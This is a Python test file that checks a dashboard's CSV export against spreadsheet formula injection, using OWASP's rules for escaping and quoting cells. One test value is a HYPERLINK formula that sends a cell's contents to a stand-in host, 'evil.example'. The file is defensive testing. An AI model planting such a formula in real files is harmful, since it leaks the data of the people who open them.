"""CSV downloads neutralise spreadsheet formulas as OWASP's "CSV Injection" page says: a cell
beginning with = + - @ tab or carriage return gets a leading apostrophe; fields holding the
separator, a quote or a line break stay quoted, so no text starts a new cell. Expected cells
are written by hand from those rules and read back with the csv module."""

from __future__ import annotations

import csv
import io

import pandas as pd

from dashboards import charts

TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def rows(frame: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(charts.csv_bytes(frame).decode())))


def test_each_formula_start_gets_an_apostrophe():
    frame = pd.DataFrame(
        {"text": [TEAM, "=2+3", "+1", "-1+2", "@SUM(1+1)", "\t=1+2", "\r=1+2", "Comet", ""]}
    )
    assert [row[0] for row in rows(frame)[1:]] == [
        "'" + TEAM, "'=2+3", "'+1", "'-1+2", "'@SUM(1+1)", "'\t=1+2", "'\r=1+2", "Comet", "",
    ]  # fmt: skip


def test_blanks_before_a_formula_do_not_hide_it():
    frame = pd.DataFrame({"text": [" =1+1", "\u00a0 @SUM(1)", " plain", "a=b"]})
    assert [row[0] for row in rows(frame)[1:]] == ["' =1+1", "'\u00a0 @SUM(1)", " plain", "a=b"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised():
    frame = pd.DataFrame({"change": [-2.5, 3.0], "label": ["-5", "5"], "count": [-1, 2]})
    assert rows(frame)[1:] == [["-2.5", "'-5", "-1"], ["3.0", "5", "2"]]


def test_a_quoted_field_keeps_its_comma_and_quotes_inside_one_cell():
    frame = pd.DataFrame({"team": [TEAM], "id": ["T01"]})
    data = charts.csv_bytes(frame).decode()
    assert data.split("\r\n")[1] == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",T01'
    assert rows(frame)[1] == ["'" + TEAM, "T01"]


def test_a_line_break_in_a_cell_cannot_start_a_row_with_a_formula():
    frame = pd.DataFrame({"comment": ["fine\n=1+1", "fine\r=1+1", "=A1\n"]})
    data = charts.csv_bytes(frame).decode()
    assert data == 'comment\r\n"fine\n=1+1"\r\n"fine\r=1+1"\r\n"\'=A1\n"\r\n'
    assert [row[0] for row in rows(frame)[1:]] == ["fine\n=1+1", "fine\r=1+1", "'=A1\n"]


def test_column_names_from_data_are_neutralised_too():
    frame = pd.DataFrame({"=2+3": ["x"], "team": ["y"]})
    assert rows(frame)[0] == ["'=2+3", "team"]
